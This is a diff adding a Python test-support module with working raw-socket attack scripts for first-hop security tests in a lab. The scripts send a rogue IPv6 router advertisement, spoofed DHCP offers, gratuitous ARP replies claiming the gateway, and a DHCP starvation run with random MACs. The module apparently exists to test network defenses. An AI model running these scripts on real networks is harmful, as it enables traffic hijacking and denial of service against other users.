@@ -1,0 +1,91 @@
+"""Attack traffic the first-hop security tests send from a client namespace (python3 of the lab image, raw sockets):
+a rogue router advertisement, DHCP server packets from an odd source port, ARP claiming the gateway, and a DHCP
+starvation run with random MAC addresses. Each function returns a script for ``python3 -c``."""
+
+ROUTER_ADVERTISEMENT = r'''
+import socket, struct
+s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
+# Router lifetime 1800 s (a default route), and a prefix to autoconfigure: what mitm6 and friends send.
+ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
+pio = struct.pack("!BBBBIII16s", 3, 4, 64, 0xc0, 86400, 14400, 0, socket.inet_pton(socket.AF_INET6, "%(prefix)s"))
+for _ in range(3):
+    s.sendto(ra + pio, ("ff02::1", 0, 0, socket.if_nametoindex("eth0")))
+'''
+
+DHCP_FROM_ODD_PORT = r'''
+import socket, time
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
+s.bind(("", 1067))
+offer = b"\x02\x01\x06\x00" + b"\x00" * 232 + b"\x63\x82\x53\x63\x35\x01\x02\xff"
+for _ in range(3):
+    s.sendto(offer, ("255.255.255.255", 68))
+    s.sendto(b"control", ("255.255.255.255", 9999))   # not a DHCP port: must arrive
+    time.sleep(0.2)
+'''
+
+ARP_CLAIM = r'''
+import socket, struct
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind(("eth0", 0))
+mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
+gateway = socket.inet_aton("%(gateway)s")
+# Gratuitous ARP reply: "the gateway is at my MAC", to everybody.
+frame = b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + gateway + b"\xff" * 6 + gateway
+for _ in range(5):
+    s.send(frame)
+'''
+
+# DISCOVER, then REQUEST for every OFFER, from %(count)d random MACs in a few seconds (what dhcpstarv does).
+DHCP_STARVATION = r'''
+import random, select, socket, struct, time
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+s.bind(("eth0", 0))
+
+def checksum(header):
+    total = sum(struct.unpack("!10H", header))
+    total = (total >> 16) + (total & 0xffff)
+    return ~(total + (total >> 16)) & 0xffff
+
+def frame(mac, xid, kind, options=b""):
+    dhcp = struct.pack("!BBBBIHH16s16s", 1, 1, 6, 0, xid, 0, 0x8000, b"", mac) + b"\0" * 192
+    dhcp += b"\x63\x82\x53\x63" + bytes([53, 1, kind]) + options + b"\xff"
+    udp = struct.pack("!HHHH", 68, 67, 8 + len(dhcp), 0) + dhcp
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, b"\0" * 4, b"\xff" * 4)
+    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+    return b"\xff" * 6 + mac + b"\x08\x00" + ip + udp
+
+pending, offers = {}, 0
+def receive(until):
+    global offers
+    while True:
+        left = until - time.time()
+        if left <= 0 or not select.select([s], [], [], left)[0]:
+            return
+        data = s.recv(2048)
+        ihl = (data[14] & 15) * 4
+        udp = 14 + ihl
+        if data[23] != 17 or struct.unpack("!H", data[udp + 2:udp + 4])[0] != 68:
+            continue
+        dhcp = data[udp + 8:]
+        xid, yiaddr = struct.unpack("!I", dhcp[4:8])[0], dhcp[16:20]
+        options, server, kind = dhcp[240:], None, None
+        while options and options[0] != 255:
+            code, length = options[0], options[1]
+            if code == 53: kind = options[2]
+            if code == 54: server = options[2:2 + length]
+            options = options[2 + length:]
+        if kind == 2 and xid in pending:
+            offers += 1
+            s.send(frame(pending.pop(xid), xid, 3, b"\x32\x04" + yiaddr + b"\x36\x04" + server))
+
+for _ in range(%(count)d):
+    mac, xid = bytes([2] + [random.randrange(256) for _ in range(5)]), random.getrandbits(32)
+    pending[xid] = mac
+    s.send(frame(mac, xid, 1))
+    receive(time.time() + 0.01)
+receive(time.time() + 3)
+print(offers)
+'''
